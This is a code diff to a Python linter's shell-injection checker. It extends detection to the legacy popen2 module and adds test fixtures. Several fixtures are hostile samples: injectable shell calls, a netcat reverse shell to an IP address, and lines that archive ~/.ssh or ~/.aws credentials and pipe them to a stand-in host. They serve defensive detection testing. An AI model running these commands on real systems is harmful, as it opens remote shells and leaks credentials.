@@ -25,7 +25,8 @@ SHELL_OPTIONAL = {"subprocess.run", "subprocess.call", "subprocess.check_call", 
 ALWAYS_SHELL = {"os.system", "os.popen", "os.popen2", "os.popen3", "os.popen4", "subprocess.getoutput",
                 "subprocess.getstatusoutput", "commands.getoutput", "commands.getstatusoutput",
                 "asyncio.create_subprocess_shell", "asyncio.subprocess.create_subprocess_shell",
-                "asyncio.AbstractEventLoop.subprocess_shell", "platform.popen"}
+                "asyncio.AbstractEventLoop.subprocess_shell", "platform.popen", "popen2.popen2", "popen2.popen3",
+                "popen2.popen4", "popen2.Popen3", "popen2.Popen4"}
 ARGV_CALLS = SHELL_OPTIONAL | {"os.execvp", "os.execv", "os.spawnvp", "asyncio.create_subprocess_exec",
                                "os.execlp", "os.spawnlp"}
 QUOTERS = {"shlex.quote", "pipes.quote", "shlex.join", "shellescape.quote", "mslex.quote"}
@@ -34,7 +35,7 @@ SHELLS = re.compile(r"^(/(usr/)?bin/)?(sh|bash|zsh|dash|ksh|cmd(\.exe)?|powershe
 
 class ShellInjection(PythonChecker):
     CODES = ("BDL505",)
-    _MODULES = re.compile(rb"\b(os|subprocess|commands|asyncio|platform)\b")
+    _MODULES = re.compile(rb"\b(os|subprocess|commands|asyncio|platform|popen2)\b")
     # `from os import system as run` leaves no `system(` in the code; the import still names it
     TRIGGER_IMPORTS = frozenset(ALWAYS_SHELL | ARGV_CALLS)
 
@@ -172,6 +173,9 @@ class ShellInjection(PythonChecker):
         Invalid('import subprocess\nUSE_SHELL = True\ndef f(branch):\n    subprocess.Popen(\n        "git checkout {}".format(branch),\n'
                 '        shell=USE_SHELL,\n    )\n', "BDL505", 4),
         Invalid('import os\ndef f(name):\n    return os.popen(" ".join(["grep", name, "/etc/passwd"])).read()\n', "BDL505", 3),
+        # the Python 2 era spellings: os.popen2/3/4 and the popen2 module
+        Invalid('import popen2\ndef f(name):\n    out, inp = popen2.popen2("finger " + name)\n    return out.read()\n',
+                "BDL505", 3),
         Invalid('import subprocess\ndef f(q):\n    subprocess.run(["bash", "-c", f"find / -name {q}"])\n', "BDL505", 3),
         Invalid('import os\ndef view(request):\n    os.system(request.GET["cmd"])\n', "BDL505", 3),
         Invalid('from subprocess import getoutput as run\ndef f(user):\n    return run(f"id {user}")\n', "BDL505", 3),
@@ -231,4 +235,5 @@ class ShellCommandChecker(PythonChecker):
                 'shell=True)\n', "BDL405", 4),
         Invalid('import pty\npty.spawn(["nc", "-e", "/bin/sh", "198.51.100.7", "4444"])\n', "BDL405", 2),
         Invalid('import os\ndef f():\n    os.popen("tar cz ~/.ssh | nc collector.example 9000")\n', "BDL402", 3),
+        Invalid('import os\ndef f():\n    os.popen3("tar cz ~/.aws | nc collector.example 9000")\n', "BDL402", 3),
     ]
